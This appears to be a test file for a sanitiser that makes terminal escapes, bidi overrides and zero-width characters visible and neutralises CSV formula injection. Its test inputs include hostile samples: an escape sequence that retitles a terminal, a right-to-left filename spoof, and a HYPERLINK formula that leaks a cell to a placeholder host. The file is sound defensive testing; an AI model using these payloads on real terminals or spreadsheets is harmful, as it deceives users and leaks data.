import { describe, expect, it } from 'vitest';
import { csvCell, hasInvisibleCharacters, makeControlsVisible, terminalSafeJson } from './visible-text.ts';

describe('makeControlsVisible', () => {
  it('shows terminal escapes as glyphs instead of letting them act', () => {
    const shown = makeControlsVisible('\u001b]0;pwned\u0007 \u001b[2J \u009b31m a\rb \u0000');
    expect(shown).toBe('␛]0;pwned␇ ␛[2J ⟨U+009B⟩31m a␍b ␀');
    // eslint-disable-next-line no-control-regex
    expect(shown).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
  });

  it('marks bidi overrides and zero-width characters', () => {
    expect(makeControlsVisible('admin\u202Egnp.exe')).toBe('admin⟨U+202E⟩gnp.exe');
    expect(makeControlsVisible('a\u200bb\u2066c')).toBe('a⟨U+200B⟩b⟨U+2066⟩c');
    expect(hasInvisibleCharacters('plain text\tok')).toBe(false);
    expect(hasInvisibleCharacters('x\u202Ey')).toBe(true);
  });
});

describe('terminalSafeJson', () => {
  it('escapes C1 and bidi characters and keeps the JSON value', () => {
    const value = { user: 'admin\u202Egnp.exe', esc: '\u009b31m\u001b' };
    const text = terminalSafeJson(JSON.stringify(value));
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u001b\u009b\u202e]/);
    expect(JSON.parse(text)).toEqual(value);
  });
});

describe('csvCell', () => {
  it('neutralizes formula prefixes and quotes per RFC 4180', () => {
    expect(csvCell('=HYPERLINK("http://x?"&A1)')).toBe('"\'=HYPERLINK(""http://x?""&A1)"');
    expect(csvCell('+cmd')).toBe('"\'+cmd"');
    expect(csvCell('-2+3')).toBe('"\'-2+3"');
    expect(csvCell('@SUM(1)')).toBe('"\'@SUM(1)"');
    expect(csvCell('\t=1')).toBe('"\'\t=1"');
    expect(csvCell('\uff1d1')).toBe('"\'\uff1d1"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('plain')).toBe('plain');
  });
});
